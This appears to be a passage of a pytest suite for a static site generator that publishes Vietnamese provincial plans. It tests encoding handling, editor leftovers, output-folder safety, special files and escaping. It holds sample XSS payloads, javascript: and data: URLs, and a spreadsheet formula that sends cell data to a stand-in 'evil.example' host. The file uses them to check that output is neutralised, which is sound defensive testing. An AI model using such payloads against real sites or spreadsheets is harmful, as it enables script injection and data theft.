    build(write_corpus(base), base / "site", search=False)
    return snapshot(base / "site")


def _recode(root: Path, fn: Callable[[str], bytes]) -> None:
    """Rewrite every corpus text file (not the verbatim sources) through `fn`."""
    for path in sorted(root.rglob("*")):
        if path.is_file() and path.suffix in (".md", ".yaml") and "sources" not in path.parts:
            path.write_bytes(fn(path.read_text(encoding="utf-8")))


ACCEPTED = {
    "decomposed-unicode-nfd": lambda t: unicodedata.normalize("NFD", t).encode("utf-8"),
    "byte-order-mark": lambda t: codecs.BOM_UTF8 + t.encode("utf-8"),
    "crlf-line-ends": lambda t: t.replace("\n", "\r\n").encode("utf-8"),
    "cr-line-ends": lambda t: t.replace("\n", "\r").encode("utf-8"),
    "bom-crlf-and-nfd-together":
        lambda t: codecs.BOM_UTF8 + unicodedata.normalize("NFD", t).replace("\n", "\r\n").encode("utf-8"),
}


@pytest.mark.parametrize("encode", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_an_unusual_but_valid_encoding_builds_the_same_site(tmp_path, clean_site, encode):
    root = write_corpus(tmp_path)
    _recode(root, encode)
    report = build(root, tmp_path / "site", search=False)
    assert report.warnings == []
    assert snapshot(tmp_path / "site") == clean_site


def test_the_real_corpus_in_nfd_with_bom_and_crlf_builds_the_same_site(tmp_path):
    clean = copy_real_corpus(tmp_path / "clean")
    odd = copy_real_corpus(tmp_path / "odd")
    # legal.yaml and legal_names.yaml are read by sitegen/citations/registry.py, which does not NFC its
    # text (see the report): they stay as they are here.
    for path in sorted(odd.rglob("*")):
        if path.is_file() and path.suffix in (".md", ".yaml") and "sources" not in path.parts \
                and not path.name.startswith("legal"):
            path.write_bytes(ACCEPTED["bom-crlf-and-nfd-together"](path.read_text(encoding="utf-8")))
    assert "Qua\u0309ng" in (odd / "plans" / "quang-ninh-2021-27-kh-ubnd.md").read_bytes().decode("utf-8-sig")
    build(clean, tmp_path / "clean-site", search=False)
    build(odd, tmp_path / "odd-site", search=False)
    assert snapshot(tmp_path / "odd-site") == snapshot(tmp_path / "clean-site")


def test_nfd_text_still_matches_its_quotes_and_agency_names(tmp_path):
    root = write_corpus(tmp_path)
    _recode(root, ACCEPTED["decomposed-unicode-nfd"])
    assert "Qua\u0309ng" in (root / MD_A).read_text(encoding="utf-8")
    from sitegen.pipeline import gather

    gathered = gather(root)
    plan = next(p for p in gathered.site.corpus.plans if p.id == PLAN_A)
    assert gathered.problems == [] and plan.province == "Quảng Ninh" and plan.tasks[0].agency == "cong-an-tinh"
    assert all(unicodedata.is_normalized("NFC", t.quote) for t in plan.targets)


def test_a_stray_file_in_plans_is_accepted_with_a_warning(tmp_path):
    root = write_corpus(tmp_path)
    (root / "plans" / "notes.txt").write_text("ghi chú", encoding="utf-8")
    report = build(root, tmp_path / "site", search=False)
    assert [(w.file, w.message.split(":")[0]) for w in report.warnings] == [
        ("corpus/plans/notes.txt", "is neither a plan text (.md) nor a plan's data (.yaml) and is ignored")]


def test_editors_lock_and_swap_files_in_plans_are_ignored(tmp_path):
    """What editors leave beside an open plan (Emacs's dangling ".#<id>.md" lock link, Vim's swap file)
    is no plan: a build while a plan is open in an editor (`build.py serve` rebuilds then) succeeds."""
    root = write_corpus(tmp_path)
    (root / "plans" / f".#{PLAN_A}.md").symlink_to("editor@host.4242:1700000000")
    (root / "plans" / f".#{PLAN_A}.yaml").symlink_to("editor@host.4242:1700000000")
    (root / "plans" / f".{PLAN_A}.md.swp").write_bytes(b"b0VIM 9.0\x00")
    report = build(root, tmp_path / "site", search=False)
    assert report.plans == 2 and report.warnings == []


def test_an_unknown_front_matter_field_is_accepted_with_a_warning(tmp_path):
    root = write_corpus(tmp_path)
    edit(root / MD_A, "excerpt: false\n", "excerpt: false\nexcerp: true\n")
    report = build(root, tmp_path / "site", search=False)
    assert [(w.file, w.where) for w in report.warnings] == [
        (f"corpus/{MD_A}", f"line {line_of(root / MD_A, 'excerp:')} (field excerp)")]


# ---------------------------------------------------------------- accepted: markup and scripts stay text

HOSTILE = ('<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) '
           '<a href="javascript:alert(1)">a</a> " onmouseover="alert(1) \' onfocus=\'alert(1) '
           '</script><script>alert(1)</script> <!-- --> ]]> {{ 7*7 }} &lt;b&gt;')
# Markup plotly would draw (a link that takes over the window, bold, a line break, a template field):
# added to every label, so that it reaches the charts' legends, axis titles and hover texts.
CHART_MARKUP = '<a href="https://example.org/" target="_top">đây</a> <b>đậm</b><br>%{y}'


def _hostile_corpus(base: Path) -> Path:
    """The tiny corpus with HOSTILE in every text field, label, name, note, header line and the body.

    The province's name is hostile in the province table too (a plan's province must be a unit of it)."""
    root = write_corpus(base)
    for name in ("taxonomy", "subjects", "units", "themes", "agencies", "commitments", "provinces"):
        path = root / f"{name}.yaml"
        entries = yaml.safe_load(path.read_text(encoding="utf-8"))
        for e in entries:
            for key in ("vi", "en", "definition_vi", "definition_en", "comparable_when", "comparable_when_en"):
                if key in e and not (name == "units" and key in ("vi", "en") and e[key] == "%"):
                    # (not in the province table: a plan's province must be written as the table has it)
                    e[key] = f"{e[key]} {HOSTILE}" + ("" if name == "provinces" else f" {CHART_MARKUP}")
        if name == "agencies":
            entries[0]["aliases"] = [*entries[0]["aliases"], f"Công an {HOSTILE}"]
        path.write_text(yaml.safe_dump(entries, allow_unicode=True), encoding="utf-8")

    def front(md: Path, fn) -> None:
        text = md.read_text(encoding="utf-8")
        end = text.index("\n---\n", 4)
        meta = yaml.safe_load(text[4:end])
        fn(meta)
        md.write_text("---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False) + text[end + 1:],
                      encoding="utf-8")

    def meta_a(m):
        for key in ("province", "number", "doc_type", "title", "issuer", "signer", "signer_title", "field",
                    "provenance"):
            m[key] = f"{m[key]} {HOSTILE}"
        m["provenance_en"] = HOSTILE
        m["header"] = {"left": [HOSTILE], "right": [HOSTILE], "number_line": HOSTILE, "place_date": HOSTILE}
        m["signature"] = {"authority": HOSTILE, "title": HOSTILE, "name": HOSTILE, "recipients": [HOSTILE]}
        m["garbled"] = [{"text": "tuyên truyềnn", "note": HOSTILE}, {"text": "<b>xấu</b>", "note": HOSTILE}]

    def meta_b(m):
        m["province"] = f"Quảng Ninh {HOSTILE}"
        m["press"] = {"outlet": HOSTILE, "published": "2021-04-01", "author": HOSTILE}

    front(root / MD_A, meta_a)
    front(root / MD_B, meta_b)
    body = (f"\n## III. {HOSTILE}\n\n3.1. Phấn đấu 75% xã, phường, thị trấn {HOSTILE} được tuyên truyền.\n\n"
            f"#### a) {HOSTILE}\n\nCông an {HOSTILE} chủ trì <b>xấu</b>.\n\n[...] {HOSTILE}\n")
    _rewrite(root / MD_A, lambda t: t + body)
    data = yaml.safe_load((root / YAML_A).read_text(encoding="utf-8"))
    quote = f"Phấn đấu 75% xã, phường, thị trấn {HOSTILE} được tuyên truyền"
    data["targets"].append({**data["targets"][0], "id": "t03", "value": 75, "quote": quote, "note": HOSTILE,
                            "note_en": HOSTILE, "topics": list(data["targets"][0]["topics"])})
    data["targets"][1]["note"] = HOSTILE
    data["commitments"].append({"id": "c02", "kind": "no_hotspot", "quote": HOSTILE})
    data["tasks"].append({"agency": f"Công an {HOSTILE}", "role": "chủ trì", "quote": f"Công an {HOSTILE} chủ trì"})
    data["themes"].append({"theme": "ma-tuy", "quote": HOSTILE})
    (root / YAML_A).write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    _rewrite(root / "CHANGELOG.md", lambda t: t + f"\n- {HOSTILE}\n")
    return root


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    report = build(_hostile_corpus(base), base / "site", search=False)
    assert report.plans == 2 and report.targets == 4
    return base / "site"


@pytest.fixture(scope="module")
def hostile_pages(hostile_site) -> dict[str, object]:
    return {str(p.relative_to(hostile_site)): html5lib.parse(p.read_bytes(), namespaceHTMLElements=False)
            for p in sorted(hostile_site.rglob("*.html"))}


OWN_SCRIPT_TYPES = ("application/json", "application/ld+json")


def test_the_hostile_corpus_builds_pages_for_both_plans(hostile_pages):
    assert {f"plans/{PLAN_A}.html", f"en/plans/{PLAN_A}.html", "plans/quang-ninh-2021.html"} <= set(hostile_pages)


def _own_script(script) -> bool:
    """The site's own scripts: a file under assets/ or pagefind/, or a JSON data block."""
    src, kind = script.get("src"), script.get("type")
    if src:
        return (posixpath.basename(posixpath.dirname(src)) in ("assets", "pagefind") and ":" not in src
                and not (script.text or "").strip())
    return kind in OWN_SCRIPT_TYPES


def test_no_page_has_a_script_but_the_sites_own(hostile_pages):
    foreign = [(path, script.get("src"), script.get("type"), (script.text or "")[:60])
               for path, tree in hostile_pages.items() for script in tree.iter("script") if not _own_script(script)]
    assert foreign == []


def test_the_sites_own_json_blocks_are_intact_json(hostile_pages):
    seen = 0
    for path, tree in hostile_pages.items():
        for script in tree.iter("script"):
            if script.get("type") in OWN_SCRIPT_TYPES:
                json.loads(script.text)
                seen += 1
    assert seen > 0


def test_no_element_has_an_event_handler_attribute(hostile_pages):
    found = [(path, el.tag, name) for path, tree in hostile_pages.items() for el in tree.iter()
             if isinstance(el.tag, str) for name in el.attrib if name.lower().startswith("on")]
    assert found == []


def test_no_attribute_anywhere_is_a_script_url(hostile_pages):
    schemes = ("javascript:", "vbscript:", "data:text/html")
    found = [(path, el.tag, name, value) for path, tree in hostile_pages.items() for el in tree.iter()
             if isinstance(el.tag, str) for name, value in el.attrib.items()
             if "".join(value.split()).lower().startswith(schemes)]
    assert found == []


def test_no_image_or_link_comes_from_the_text(hostile_pages):
    tree = hostile_pages[f"plans/{PLAN_A}.html"]
    assert [img.get("src") for img in tree.iter("img") if img.get("src") == "x"] == []
    assert not [a for a in tree.iter("a") if a.get("href", "").startswith(("x", "javascript"))]


@pytest.mark.parametrize("page", [f"plans/{PLAN_A}.html", f"en/plans/{PLAN_A}.html", "categories/communication.html",
                                  "matrices.html", "plans/quang-ninh-2021.html"])
def test_the_hostile_text_is_shown_as_text(hostile_pages, page):
    text = "".join(hostile_pages[page].itertext())
    assert "<script>alert(1)</script>" in text and "<img src=x onerror=alert(1)>" in text
    assert "&lt;b&gt;" in text  # an entity in the corpus is shown as written, not decoded


def test_the_quote_with_markup_is_still_marked_and_linked(hostile_pages):
    tree = hostile_pages[f"plans/{PLAN_A}.html"]
    marks = [m for m in tree.iter("mark") if m.get("data-for") == "t03"]
    assert marks and "<script>alert(1)</script>" in "".join("".join(m.itertext()) for m in marks)
    assert any(el.get("id") == "q-t03" for el in tree.iter())


def test_the_title_element_holds_the_hostile_title_as_text(hostile_pages):
    (title,) = hostile_pages[f"plans/{PLAN_A}.html"].iter("title")
    assert "<script>alert(1)</script>" in title.text


# ---------------------------------------------------------------- the output folder itself


def _cli():
    spec = importlib.util.spec_from_file_location("build_cli", BUILD_PY)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.mark.parametrize("where", ["the-corpus", "around-the-corpus", "inside-the-corpus"])
def test_the_build_refuses_to_replace_the_corpus_with_the_site(tmp_path, capsys, where):
    root = write_corpus(tmp_path)
    out = {"the-corpus": root, "around-the-corpus": tmp_path, "inside-the-corpus": root / "plans"}[where]
    before = snapshot(tmp_path)
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 2
    assert "choose another --out" in capsys.readouterr().err
    assert snapshot(tmp_path) == before


def test_the_build_refuses_to_replace_a_folder_that_is_not_a_site(tmp_path, capsys):
    root = write_corpus(tmp_path)
    out = tmp_path / "documents"
    out.mkdir()
    (out / "thesis.docx").write_bytes(b"precious")
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 2
    assert "is not a site built here" in capsys.readouterr().err
    assert snapshot(out) == {"thesis.docx": b"precious"}


def test_the_build_replaces_a_previous_site(tmp_path):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 0
    edit(root / MD_A, "title: Phòng, chống tệ nạn xã hội năm 2020", "title: Tiêu đề mới")
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 0
    assert "Tiêu đề mới" in (out / "plans" / f"{PLAN_A}.html").read_text(encoding="utf-8")


# ---------------------------------------------------------------- issue 11: the output folder, options, files


def test_the_build_refuses_a_folder_with_an_index_and_other_files_it_did_not_build(tmp_path, capsys):
    root = write_corpus(tmp_path)
    out = tmp_path / "w"
    out.mkdir()
    (out / "index.html").write_bytes(b"x")
    (out / "thesis.docx").write_bytes(b"y")
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 2
    err = capsys.readouterr().err
    assert "is not a site built here (it has no .build-manifest.json)" in err and "choose another --out" in err.lower()
    assert snapshot(out) == {"index.html": b"x", "thesis.docx": b"y"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["corpus", "w"]  # not even a lock file


def test_the_build_refuses_to_delete_a_file_added_to_a_site_it_built(tmp_path, capsys):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 0
    (out / "plans" / "my-notes.txt").write_bytes(b"precious")
    before = snapshot(out)
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q"]) == 2
    err = capsys.readouterr().err
    assert "holds files this program did not build (plans/my-notes.txt)" in err and "Move them out of it" in err
    assert snapshot(out) == before


def test_the_build_refuses_an_output_path_that_is_a_file(tmp_path, capsys):
    root = write_corpus(tmp_path)
    target = tmp_path / "f"
    target.write_bytes(b"a file")
    for _ in range(2):  # and the next build says the same, instead of failing on a moved file
        assert _cli().main(["--corpus", str(root), "--out", str(target), "--no-search", "-q"]) == 2
        assert "is a file, not a folder" in capsys.readouterr().err
    assert target.read_bytes() == b"a file"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["corpus", "f"]


@pytest.mark.parametrize("url, what", [
    ("javascript:alert('XSS')//", "has the scheme 'javascript:'"),
    ("data:text/html,<script>alert(1)</script>", "has the scheme 'data:'"),
    ("//example.org/", "has no scheme (http:// or https://)"),
    ("ftp://example.org/", "has the scheme 'ftp:'"),
    ("https://", "names no host"),
    ("https://example.org/\"><script>", "contains a space, quote, angle bracket"),
    ("https://user:secret@example.org/", "contains a user name or password"),
    ("https://example.org/?a=1", "has a query (?) or fragment (#)"),
], ids=["javascript", "data", "scheme-relative", "ftp", "no-host", "quote", "password", "query"])
def test_a_base_url_that_is_not_an_absolute_http_url_is_refused(tmp_path, capsys, url, what):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q", "--base-url", url]) == 2
    err = capsys.readouterr().err
    assert err.startswith("Build failed: --base-url ") and what in err and "https://example.org/ke-hoach/" in err
    assert not out.exists()
    with pytest.raises(ValueError, match="--base-url"):  # the library refuses it too
        build(root, out, base_url=url, search=False)


def test_a_templates_option_that_is_not_a_folder_is_refused(tmp_path, capsys):
    root = write_corpus(tmp_path)
    out, missing = tmp_path / "site", tmp_path / "theme"
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q", "--templates", str(missing)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("Build failed: --templates ") and str(missing) in err and "not a folder" in err
    assert not out.exists()
    with pytest.raises(ValueError, match="--templates .*not a folder"):  # the library refuses it too
        build(root, out, templates=missing, search=False)


def test_a_broken_template_of_a_templates_folder_is_named_and_the_site_kept(tmp_path, capsys):
    root = write_corpus(tmp_path)
    out, theme = tmp_path / "site", tmp_path / "theme"
    build(root, out, search=False)
    before = sorted(p.relative_to(out) for p in out.rglob("*"))
    theme.mkdir()
    (theme / "plan.html").write_text('{% extends "base.html" %}\n{% block main %}{{ page.title }\n', "utf-8")
    assert _cli().main(["--corpus", str(root), "--out", str(out), "--no-search", "-q", "--templates", str(theme)]) == 2
    err = capsys.readouterr().err
    assert "TemplateSyntaxError" in err and "plan.html" in err and "line 2" in err
    assert sorted(p.relative_to(out) for p in out.rglob("*")) == before


def test_an_absolute_https_base_url_lands_in_canonical_links_and_the_sitemap(tmp_path):
    root = write_corpus(tmp_path)
    build(root, tmp_path / "site", base_url="https://example.org/ke-hoach/", search=False)
    assert "<loc>https://example.org/ke-hoach/index.html</loc>" in (tmp_path / "site" / "sitemap.xml").read_text()


def _without_write_permission() -> list[str]:
    """A command prefix under which file permissions apply: root ignores them, so as root the build
    runs without the capabilities that let it (setpriv, util-linux)."""
    if os.geteuid() != 0:
        return []
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search,-fowner"]


def test_a_read_only_site_is_refused_clearly_and_left_as_it_was(tmp_path):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    assert run_build(root, out).returncode == 0
    before = snapshot(out)
    folders = [out, *sorted(p for p in out.rglob("*") if p.is_dir())]
    for folder in folders:
        folder.chmod(0o555)
    try:
        result = subprocess.run([*_without_write_permission(), sys.executable, str(BUILD_PY), "--corpus", str(root),
                                 "--out", str(out), "--no-search"], capture_output=True, text=True, timeout=120)
    finally:
        for folder in folders:
            folder.chmod(0o755)
    assert result.returncode == 2, result.stderr
    assert "cannot be replaced: folders of it are not writable (./, " in result.stderr
    assert "Make it writable (chmod -R u+w) or choose another --out" in result.stderr
    assert "Traceback" not in result.stderr
    assert snapshot(out) == before and _leftovers(out) == []
    assert run_build(root, out).returncode == 0  # once writable again, the next build works


def _fail_writing(monkeypatch, name: str, err: int) -> None:
    """Make the writer's open() fail with `err` for the staged file called `name`."""
    real = open

    def fake(path, *args, **kw):
        if Path(path).name == name and args and "w" in args[0]:
            raise OSError(err, os.strerror(err))
        return real(path, *args, **kw)
    monkeypatch.setattr("sitegen.write.open", fake, raising=False)


@pytest.mark.parametrize("err, cause, hint", [
    (errno.ENOSPC, "No space left on device", "the disk is full: free some space"),
    (errno.EACCES, "Permission denied", "make it writable"),
], ids=["disk-full", "permission-denied"])
def test_a_failed_write_names_the_file_and_the_cause_and_keeps_the_previous_site(tmp_path, monkeypatch, err,
                                                                                  cause, hint):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    build(root, out, search=False)
    before = snapshot(out)
    edit(root / MD_A, TITLE_A, "title: Tiêu đề mới")  # so that the plan's page is written again
    _fail_writing(monkeypatch, f"{PLAN_A}.html", err)
    with pytest.raises(OutputError) as exc:
        build(root, out, search=False)
    message = str(exc.value)
    assert message.startswith("cannot write ") and f"/plans/{PLAN_A}.html: {cause} ({hint}" in message
    assert snapshot(out) == before and _leftovers(out) == []


def test_a_search_index_cut_short_by_a_full_disk_is_reported_as_such(tmp_path, monkeypatch):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    build(root, out, search=False)
    before = snapshot(out)

    def pagefind(cmd, **kw):  # Pagefind exits 0 when the disk fills up, leaving its entry file empty
        folder = Path(cmd[cmd.index("--site") + 1]) / "pagefind"
        folder.mkdir()
        (folder / "pagefind-entry.json").write_bytes(b"")
        return subprocess.CompletedProcess(cmd, 0, "", "")
    monkeypatch.setattr("sitegen.search.subprocess.run", pagefind)
    with pytest.raises(OutputError, match=r"pagefind-entry.json is incomplete \(is the disk full\?"):
        build(root, out, search=True)
    assert snapshot(out) == before and _leftovers(out) == []


@pytest.mark.parametrize("publish", ["copy", "standby"])
def test_a_failed_second_rename_puts_the_previous_site_back_at_once(tmp_path, monkeypatch, publish):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    build(root, out, search=False)
    before = snapshot(out)
    real = os.replace

    def replace(src, dst):
        if ".staging." in str(src) and Path(dst) == out.resolve():
            raise OSError(errno.EIO, "Input/output error")
        return real(src, dst)

    def exchange(a, b):  # the standby mode's one step, failing as the rename does above
        raise OSError(errno.EIO, "Input/output error")
    monkeypatch.setattr("sitegen.write.os.replace", replace)
    monkeypatch.setattr("sitegen.standby.exchange", exchange)
    with pytest.raises(OutputError, match=r"cannot replace .*site: Input/output error"):
        build(root, out, search=False, publish=publish)
    assert snapshot(out) == before and _leftovers(out) == []


# ---------------------------------------------------------------- issue 11: special files, editors' leftovers


def _build_with_timeout(root: Path, out: Path) -> subprocess.CompletedProcess:
    """The command line, stopped after 60 s (reading a named pipe would wait for ever)."""
    return subprocess.run([sys.executable, str(BUILD_PY), "--corpus", str(root), "--out", str(out), "--no-search"],
                          capture_output=True, text=True, cwd=REPO, timeout=60)


@pytest.mark.parametrize("rel", [MD_A, "units.yaml", "CHANGELOG.md"], ids=["plan", "lookup-table", "changelog"])
def test_a_named_pipe_in_place_of_a_corpus_file_is_refused_without_waiting(tmp_path, rel):
    root = write_corpus(tmp_path)
    (root / rel).unlink()
    os.mkfifo(root / rel)
    result = _build_with_timeout(root, tmp_path / "site")
    assert result.returncode == 1
    assert f"ERROR corpus/{rel}: is a named pipe (FIFO), not a regular file: put the file itself here" in result.stderr
    assert not (tmp_path / "site").exists()


def _citations(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "sitegen.citations", *args], capture_output=True, text=True,
                          cwd=REPO, timeout=60)


def test_the_citation_command_refuses_a_named_pipe_and_a_device_without_waiting(tmp_path):
    os.mkfifo(tmp_path / "pipe.txt")
    for path, kind in ((tmp_path / "pipe.txt", "a named pipe (FIFO)"), (Path("/dev/zero"), "a device")):
        result = _citations(str(path))
        assert result.returncode == 2 and "Traceback" not in result.stderr
        assert f"error: {path}: is {kind}, not a regular file" in result.stderr


def test_the_citation_command_caps_the_size_it_reads(tmp_path):
    big = tmp_path / "big.txt"
    _write_big(big, 6 * MB)
    result = _citations(str(big))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "big.txt: is 6.0 MB; a document may be at most 5 MB" in result.stderr


@pytest.mark.parametrize("content, what", [
    ("- id: a\n  names: [\n", "/names.yaml:line 3: YAML syntax error"),
    ("- &a {id: a}\n- *a\n", "/names.yaml:line 2: YAML error: an alias (*a) is not allowed"),
    ("{id: a}\n", "/names.yaml:line 1: must be a YAML list of entries (id, type, names)"),
    ("- {id: a}\n", "/names.yaml: entry 1 needs id, type and a list of names"),
    (b"\xff\xfe- {id: a}\n", "/names.yaml:line 1: is not valid UTF-8"),
], ids=["syntax", "alias", "not-a-list", "entry-without-names", "not-utf8"])
def test_the_citation_commands_alias_table_is_read_as_safely_as_a_corpus_file(tmp_path, content, what):
    doc, names = tmp_path / "doc.txt", tmp_path / "names.yaml"
    doc.write_text("Căn cứ Luật Phòng, chống ma túy năm 2021.", encoding="utf-8")
    names.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    result = _citations(str(doc), "--names", str(names))
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.startswith("python -m sitegen.citations: error: ") and what in result.stderr


def test_the_citation_commands_alias_table_is_no_pipe_device_or_huge_file(tmp_path):
    doc = tmp_path / "doc.txt"
    doc.write_text("Căn cứ Luật Phòng, chống ma túy năm 2021.", encoding="utf-8")
    os.mkfifo(tmp_path / "pipe.yaml")  # read, it would wait for ever (_citations stops after 60 s)
    _write_big(tmp_path / "big.yaml", 6 * MB)
    for path, what in ((tmp_path / "pipe.yaml", "is a named pipe (FIFO), not a regular file"),
                       (Path("/dev/zero"), "is a device, not a regular file"),
                       (tmp_path / "big.yaml", "is 6.0 MB; a corpus file may be at most 5 MB")):
        result = _citations(str(doc), "--names", str(path))
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert f"error: {path}: {what}" in result.stderr
    good = _citations(str(doc), "--names", str(REPO / "corpus" / "legal_names.yaml"))
    assert good.returncode == 0, good.stderr


EDITOR_LEFTOVERS = {
    f".#{PLAN_A}.md": None,  # Emacs's lock file: a dangling symbolic link while the plan is open
    f"#{PLAN_A}.md#": "auto-save",  # Emacs's auto-save
    f"{PLAN_A}.md~": "backup",  # Emacs's, gedit's, Kate's backup
    f".{PLAN_A}.yaml.swp": "b0VIM 9.0",  # Vim's swap file
    "4913": "",  # Vim's test that the folder is writable
    ".DS_Store": "\0\0\0\1Bud1",
}


def test_files_editors_leave_in_plans_are_ignored_without_a_word(tmp_path, clean_site):
    root = write_corpus(tmp_path)
    for name, content in EDITOR_LEFTOVERS.items():
        if content is None:
            (root / "plans" / name).symlink_to(f"editor@host.4242:{1700000000}")
        else:
            (root / "plans" / name).write_text(content, encoding="utf-8")
    report = build(root, tmp_path / "site", search=False)
    assert report.warnings == [] and report.plans == 2
    assert snapshot(tmp_path / "site") == clean_site


# ---------------------------------------------------------------- issue 11: spreadsheet formulas in CSV

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"xem")'


def test_a_cell_a_spreadsheet_would_run_is_neutralised_in_csv_and_verbatim_in_json(tmp_path):
    root = write_corpus(tmp_path)
    edit(root / MD_A, "signer: Nguyễn Văn A", f"signer: '{FORMULA}'")
    edit(root / MD_A, "signer_title: PHÓ CHỦ TỊCH", "signer_title: \"@SUM(1+1)\"")
    build(root, tmp_path / "site", search=False)
    data = tmp_path / "site" / "data"
    rows = {r["plan_id"]: r for r in csv.DictReader(io.StringIO((data / "plans.csv").read_text(encoding="utf-8")))}
    assert rows[PLAN_A]["signer"] == "'" + FORMULA and rows[PLAN_A]["signer_title"] == "'@SUM(1+1)"
    assert {r["signer"] for r in json.loads((data / "plans.json").read_bytes())} >= {FORMULA}
    assert json.loads((data / "plans" / f"{PLAN_A}.json").read_bytes())["plan"]["signer"] == FORMULA
    # The comparator `=` (a lone sign) and the numbers stay as they are.
    targets = list(csv.DictReader(io.StringIO((data / "targets.csv").read_text(encoding="utf-8"))))
    assert targets and all(not t["comparator"].startswith("'") and float(t["value"]) > 0 for t in targets)
    (zip_path,) = data.glob("*.zip")
    with zipfile.ZipFile(zip_path) as zf:
        member = next(n for n in zf.namelist() if n.endswith("/plans.csv"))
        assert zf.read(member) == (data / "plans.csv").read_bytes()
        readme = zf.read(next(n for n in zf.namelist() if n.endswith("/README.md"))).decode("utf-8")
    assert "apostrophe (') put in front of it" in readme
    assert "apostrophe (') put in front of it" in (data / "README.md").read_text(encoding="utf-8")
    assert "dấu nháy đơn (')" in html.unescape((tmp_path / "site" / "data.html").read_text(encoding="utf-8"))
